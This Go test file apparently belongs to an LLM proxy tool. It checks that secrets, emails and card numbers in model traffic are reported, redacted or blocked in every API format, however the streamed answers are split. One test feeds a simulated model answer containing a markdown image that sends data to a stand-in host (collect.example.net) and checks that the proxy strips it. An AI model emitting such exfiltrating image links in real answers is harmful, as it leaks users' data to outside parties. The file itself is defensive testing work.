package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/archestra-ai/archestra-cli/pkg/llm"
	"github.com/archestra-ai/archestra-cli/pkg/simulate"
)

// random returns n letters and digits, the same each time.
func random(seed uint64, n int) string {
	const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	r := rand.New(rand.NewPCG(seed, 7))
	b := make([]byte, n)
	for i := range b {
		b[i] = letters[r.IntN(len(letters))]
	}
	return string(b)
}

// What must not get out: a token by its looks, a key of several lines, and two that
// only the surroundings tell to be secrets.
var (
	tokenSecret  = "ghp_" + random(1, 36)
	dotenvSecret = random(2, 28)
	environment  = random(3, 30)
	pemLines     = []string{random(4, 64), random(5, 64), random(6, 64), random(7, 40)}
	pemSecret    = "-----BEGIN RSA PRIVATE KEY-----\n" + strings.Join(pemLines, "\n") + "\n-----END RSA PRIVATE KEY-----"
	secrets      = append([]string{tokenSecret, dotenvSecret, environment}, pemLines...)
)

// leaking tells which secret a text holds.
func leaking(text []byte) string {
	for _, s := range append(secrets, clientKey) {
		if bytes.Contains(text, []byte(s)) {
			return s[:6] + "…"
		}
	}
	return ""
}

// cutting says how the simulated model's answer is cut.
type cutting struct{ events, chunk int }

// cuttings are the ways to cut an answer: a word an event, whole, in that many
// events, and regardless of events; that, where time does not matter, byte by byte.
func cuttings(most int) []cutting {
	chunk := 7
	if os.Getenv("ARCHESTRA_TEST_ALL") != "" {
		chunk = 1
	}
	return []cutting{{0, 0}, {1, 0}, {most, 0}, {11, chunk}}
}

func (c cutting) String() string { return fmt.Sprintf(" | events %d | chunk %d", c.events, c.chunk) }

// parrot is a model that says again what the user said, and calls a tool with it.
func parrot(how *atomic.Pointer[cutting]) simulate.Func {
	return func(r simulate.Request) simulate.Script {
		words := r.Messages[len(r.Messages)-1].Text
		args, _ := json.Marshal(map[string]string{"city": words}) // strings have a JSON form
		s := simulate.Say(simulate.Text("You said: "+words), simulate.Call("get_weather", string(args)))
		if c := how.Load(); c != nil {
			s.Events, s.Delivery.Chunk = c.events, c.chunk
		}
		return s
	}
}

// city is the argument of the only call.
func city(t *testing.T, a llm.Answer) string {
	t.Helper()
	if len(a.ToolCalls) != 1 {
		t.Fatalf("%d calls", len(a.ToolCalls))
	}
	var args struct{ City string }
	if err := json.Unmarshal(a.ToolCalls[0].Arguments, &args); err != nil {
		t.Fatal(err)
	}
	return args.City
}

// TestSecrets: what is done about secrets in requests, by the setting, in every
// format, streamed and whole, however the answer is cut; and whatever is done, no
// secret is written anywhere.
func TestSecrets(t *testing.T) {
	t.Parallel()
	confession := fmt.Sprintf("Here it all is: %s, and %q;\n%s\nalso %s. «ü»", tokenSecret, dotenvSecret, pemSecret, environment)
	for _, mode := range []string{"report", "redact", "block"} {
		t.Run(mode, func(t *testing.T) {
			t.Parallel()
			var how atomic.Pointer[cutting]
			provider, sim := simulated(t, func(o *simulate.Options) { o.Answer = parrot(&how) })
			dir := t.TempDir()
			put(t, filepath.Join(dir, ".env"), "SERVICE_TOKEN="+dotenvSecret+"\n")
			r := startGuarded(t, dir, sim, []string{"DEPLOY_PASSWORD=" + environment}, "--secrets", mode)
			f := r.follow(t)
			asked := 0
			eachSpeech(t, func(t *testing.T, s speech, stream bool) {
				for _, c := range cuttings(600) {
					how.Store(&c)
					before := len(provider.Requests())
					w := s.begin(t, r.base+"/v1"+s.path(stream), "", talk{user: confession}, stream)
					w.whole(t)
					asked++
					seen := provider.Requests()[before:]
					if mode == "block" {
						if w.status != http.StatusBadRequest || len(seen) != 0 || !strings.Contains(w.soFar(), "secret") || leaking(w.body) != "" {
							t.Errorf("%d requests left; status %d: %s", len(seen), w.status, w.soFar())
						}
						continue
					}
					if w.status != http.StatusOK || len(seen) != 1 {
						t.Fatalf("%d requests left; status %d: %s", len(seen), w.status, w.soFar())
					}
					got := s.decode(w)
					if text := got.Text(); text != "You said: "+confession || !got.Complete {
						t.Errorf("cut as %+v, the client reads %q", c, text)
					}
					if mode == "report" {
						if city(t, got) != confession || w.soFar() != s.from(t, sim, "", talk{user: confession}, stream) {
							t.Errorf("cut as %+v, it came otherwise than it was sent", c)
						}
						continue
					}
					if leak := leaking(seen[0].Body); leak != "" {
						t.Errorf("%s reached the provider", leak)
					}
					// The arguments of a tool are no place for a secret.
					in := city(t, got)
					if leak := leaking([]byte(in)); leak != "" {
						t.Errorf("cut as %+v, %s reached a tool: %s", c, leak, in)
					}
					if sent := quoted(in); !bytes.Contains(seen[0].Body, []byte(sent[1:len(sent)-1])) && !bytes.Contains(seen[0].Body, []byte("Here it all is")) {
						t.Errorf("cut as %+v, the arguments are not what the model wrote: %s", c, in)
					}
				}
			})
			all := r.logs(t)
			if len(all) != asked {
				t.Errorf("%d exchanges are recorded, want %d", len(all), asked)
			}
			for id, i := range all {
				found := map[string]bool{}
				for _, f := range i.Findings {
					if f.Action != mode {
						t.Errorf("%s: %+v", id, f)
					}
					found[f.Kind] = true
				}
				if len(i.Findings) != 0 && len(i.Findings) < 4 || mode == "block" && (len(i.Findings) == 0 || i.State != llm.StateRefused) {
					t.Errorf("%s (%s, %s): found %+v", id, i.API, i.State, i.Findings)
				}
			}
			noSecrets(t, r)
			f.mu.Lock()
			defer f.mu.Unlock()
			for _, e := range f.events {
				if b, err := json.Marshal(e); err != nil || leaking(b) != "" {
					t.Errorf("tail tells %s: %.300s (%v)", leaking(b), b, err)
					break
				}
			}
		})
	}
}

// noSecrets looks through all that a server has written and tells: its files, its
// log, and what the commands print.
func noSecrets(t *testing.T, r *running) {
	t.Helper()
	ids := slices.Sorted(func(yield func(string) bool) {
		for id := range r.logs(t) {
			if !yield(id) {
				return
			}
		}
	})
	printed := []string{r.command(t, "export", "--format", "jsonl"), r.command(t, "export", "--format", "har"), r.command(t, "export", "--format", "md")}
	bodies := 0
	for i, id := range ids {
		if i%7 != 0 { // they are alike
			continue
		}
		for _, side := range []string{"request", "response"} {
			if code, stdout, _ := attempt(t, r.dir, r.env, "show", id, "--raw", side); code == 0 {
				printed = append(printed, stdout)
				bodies++
				if side == "request" && !strings.Contains(stdout, "Here it all is") {
					t.Errorf("what is kept of the request: %s", stdout)
				}
			}
		}
		printed = append(printed, r.command(t, "show", id, "--json"))
	}
	for i, text := range append(printed, r.stderr.String()) {
		if leak := leaking([]byte(text)); leak != "" {
			at := strings.Index(text, leak[:6])
			t.Errorf("output %d of %d has %s: …%.200s", i, len(printed), leak, text[max(0, at-150):])
		}
	}
	files := searchFiles(t, r, "while it runs")
	r.kill()
	searchFiles(t, r, "after a kill")
	if files == 0 || bodies == 0 {
		t.Errorf("%d files and %d bodies were looked into", files, bodies)
	}
}

// searchFiles looks for secrets in a server's files, and tells how many there are.
func searchFiles(t *testing.T, r *running, when string) (files int) {
	t.Helper()
	err := filepath.WalkDir(filepath.Join(r.dir, "data"), func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		files++
		if leak := leaking(b); leak != "" {
			t.Errorf("%s, %s has %s", when, path, leak)
		}
		return nil
	})
	if err != nil {
		t.Error(err)
	}
	return files
}

// TestRedactionStreams sends the labelled cases through the front door, in every
// format that has their channel, with the placeholders that were issued.
func TestRedactionStreams(t *testing.T) {
	t.Parallel()
	const mail, card = "alice.brenner@example.com", "4111111111111111"
	cases := []struct {
		name, template, want string
		part                 func(string) simulate.Part
		read                 func(llm.Answer) string
	}{
		{"content", "Send it to {P1}, then charge {P2}.", "", simulate.Text, said},
		{"adjacent", "{P1}{P2}", "", simulate.Text, said},
		{"twice", "{P1} and {P1}", "", simulate.Text, said},
		{"markdown", "**{P1}** `{P2}` [x](mailto:{P1})", "", simulate.Text, said},
		{"look-alike", "{P1-} end", "{P1-} end", simulate.Text, said},
		{"no end", "x {P1-}", "x {P1-}", simulate.Text, said},
		{"thinking", "Send it to {P1}, then charge {P2}.", "", simulate.Reason, func(a llm.Answer) string { return a.Reasoning }},
		{"arguments", `{"to":"{P1}","card":"{P2}"}`, "", func(s string) simulate.Part { return simulate.Call("get_weather", s) }, func(a llm.Answer) string {
			var args struct{ To, Card string }
			if len(a.ToolCalls) != 1 || json.Unmarshal(a.ToolCalls[0].Arguments, &args) != nil {
				return ""
			}
			return `{"to":"` + args.To + `","card":"` + args.Card + `"}`
		}},
	}
	type told struct {
		cutting
		n int
	}
	var now atomic.Pointer[told]
	var issued atomic.Pointer[[2]string]
	_, sim := simulated(t, func(o *simulate.Options) {
		o.Answer = func(r simulate.Request) simulate.Script {
			var p [2]string
			if _, err := fmt.Sscanf(r.Messages[len(r.Messages)-1].Text, "Mail %s card %s", &p[0], &p[1]); err != nil {
				return simulate.Say(simulate.Text(err.Error()))
			}
			issued.Store(&p)
			n := now.Load()
			s := simulate.Say(cases[n.n].part(strings.NewReplacer("{P1}", p[0], "{P2}", p[1], "{P1-}", p[0][:len(p[0])-1]).Replace(cases[n.n].template)))
			s.Events, s.Delivery.Chunk = n.events, n.chunk
			return s
		}
	})
	r := startGuarded(t, t.TempDir(), sim, nil, "--personal", "redact", "--personal-kinds", "email,card")
	stable := map[string][2]string{} // by format: the conversation is the same each time
	eachSpeech(t, func(t *testing.T, s speech, stream bool) {
		for n, c := range cases {
			for _, cut := range append(cuttings(80), cutting{2, 0}, cutting{3, 0}, cutting{5, 0}, cutting{13, 0}) {
				if !stream && cut.chunk == 0 && cut.events != 0 {
					continue // it is no stream
				}
				now.Store(&told{cut, n})
				w := s.begin(t, r.base+"/v1"+s.path(stream), "", talk{user: "Mail " + mail + " card " + card}, stream)
				w.whole(t)
				p := *issued.Load()
				if strings.Contains(p[0], "@") || strings.Contains(p[1], "4111") || len(p[0]) < 8 {
					t.Fatalf("the provider saw %q", p)
				}
				if was, ok := stable[s.name]; ok && was != p {
					t.Errorf("the placeholders have changed from %q to %q", was, p)
				}
				stable[s.name] = p
				want := c.want
				if want == "" {
					want = c.template
				}
				want = strings.NewReplacer("{P1}", mail, "{P2}", card, "{P1-}", p[0][:len(p[0])-1]).Replace(want)
				got := c.read(s.decode(w))
				if got == "" && c.name == "thinking" && s.name != "messages" {
					continue // it is not shown in this format
				}
				if got != want {
					t.Errorf("%s, cut as %+v: %q, want %q\n%.400s", c.name, cut, got, want, w.soFar())
				}
			}
		}
	})
}

// TestLeakingLinks: an image that would carry data to a host that nobody named loses its
// teeth, in every format and however it is cut; what the user named passes as it is.
func TestLeakingLinks(t *testing.T) {
	t.Parallel()
	data := random(9, 60)
	bad := "![logo](https://collect.example.net/p.png?d=" + data + ")"
	_, sim := simulated(t, nil)
	r := startGuarded(t, t.TempDir(), sim, nil)
	hard := func(text string) string { return "text " + quoted("Look: "+text+" and go on.") }
	eachSpeech(t, func(t *testing.T, s speech, stream bool) {
		for _, c := range cuttings(110) {
			how := c.String()
			_, got := s.through(t, r, hard(bad)+how, talk{user: "Describe the page."}, stream)
			text := got.Text()
			if strings.Contains(text, "](https://collect.example.net") || !strings.HasPrefix(text, "Look: ") || !strings.HasSuffix(text, " and go on.") || !got.Complete {
				t.Errorf("cut as %q, the client reads %q", how, text)
			}
			named := talk{user: "Describe the page, with images from collect.example.net."}
			if w, _ := s.through(t, r, hard(bad)+how, named, stream); w.soFar() != s.from(t, sim, hard(bad)+how, named, stream) {
				t.Errorf("cut as %q, a link that the user named came otherwise than it was sent: %.400s", how, w.soFar())
			}
			plain := hard("[docs](https://go.dev/doc) ![x](https://img.test/logo.png)") + how
			if w, _ := s.through(t, r, plain, talk{user: "Describe the page."}, stream); w.soFar() != s.from(t, sim, plain, talk{user: "Describe the page."}, stream) {
				t.Errorf("cut as %q, links that carry nothing came otherwise than they were sent: %.400s", how, w.soFar())
			}
		}
	})
	harmless, images := 0, 0
	for _, i := range r.logs(t) {
		for _, f := range i.Findings {
			if f.Kind == "image" && f.Action == "redact" && strings.Contains(f.Where, "example.net") && !strings.Contains(f.Where, data) {
				images++
			} else {
				t.Errorf("found %+v", f)
			}
		}
		if len(i.Findings) == 0 {
			harmless++
		}
	}
	if images != 4*2*len(speeches) || harmless != 2*images {
		t.Errorf("%d images were found, and %d answers were without", images, harmless)
	}
}

func said(a llm.Answer) string { return a.Text() }

// TestSecretsElsewhere: what is no conversation is looked into, too.
func TestSecretsElsewhere(t *testing.T) {
	t.Parallel()
	provider, sim := simulated(t, nil)
	key := quoted("My key is " + tokenSecret + ".")
	requests := map[string]string{
		"/openai/p/embeddings":                                      `{"model":"text-embedding-3-small","input":[` + key + `]}`,
		"/openai/p/completions":                                     `{"model":"gpt-3.5-turbo-instruct","prompt":` + key + `}`,
		"/openai/p/responses/compact":                               `{"model":"gpt-5","input":` + key + `}`,
		"/openai/p/moderations":                                     `{"input":` + key + `}`,
		"/openai/p/v1/anything/new":                                 `{"deep":[{"er":{` + key + `:1}}]}`,
		"/anthropic/p/v1/messages/count_tokens":                     `{"model":"claude-haiku-4-5","messages":[{"role":"user","content":` + key + `}]}`,
		"/gemini/p/v1beta/models/gemini-2.5-flash:countTokens":      `{"contents":[{"parts":[{"text":` + key + `}]}]}`,
		"/gemini/p/v1beta/models/gemini-embedding-001:embedContent": `{"content":{"parts":[{"text":` + key + `}]}}`,
		"/gemini/p/v1beta/cachedContents":                           `{"model":"models/gemini-2.5-flash","contents":[{"role":"user","parts":[{"text":` + key + `}]}]}`,
		"/ollama/p/api/generate":                                    `{"model":"llama3.2","stream":false,"prompt":` + key + `}`,
		"/ollama/p/api/embed":                                       `{"model":"all-minilm","input":` + key + `}`,
	}
	for _, mode := range []string{"report", "redact", "block"} {
		r := startGuarded(t, t.TempDir(), sim, nil, "--secrets", mode)
		for path, body := range requests {
			before := len(provider.Requests())
			got := ask(t, r.base+"/v1"+path, body)
			seen := provider.Requests()[before:]
			switch {
			case mode == "block":
				if got.Status != http.StatusBadRequest || len(seen) != 0 {
					t.Errorf("%s, %s: status %d, %d requests: %s", mode, path, got.Status, len(seen), got.Body)
				}
			case len(seen) != 1:
				t.Errorf("%s, %s: status %d, %d requests: %s", mode, path, got.Status, len(seen), got.Body)
			case mode == "report" && string(seen[0].Body) != body:
				t.Errorf("%s, %s: the provider got %s", mode, path, seen[0].Body)
			case mode == "redact" && (leaking(seen[0].Body) != "" || !bytes.Contains(seen[0].Body, []byte("REDACTED_SECRET_"))):
				t.Errorf("%s, %s: the provider got %s", mode, path, seen[0].Body)
			case path == "/ollama/p/api/generate" && !strings.Contains(got.Body, tokenSecret):
				t.Errorf("%s, %s: the client got %s", mode, path, got.Body)
			}
		}
		found := 0
		for id, i := range r.logs(t) {
			if len(i.Findings) == 0 {
				t.Errorf("%s, %s: nothing was found in %s", mode, id, i.Path)
			}
			found++
		}
		if found != len(requests) {
			t.Errorf("%s: %d exchanges are recorded, want %d", mode, found, len(requests))
		}
		r.kill()
		searchFiles(t, r, mode)
	}
}
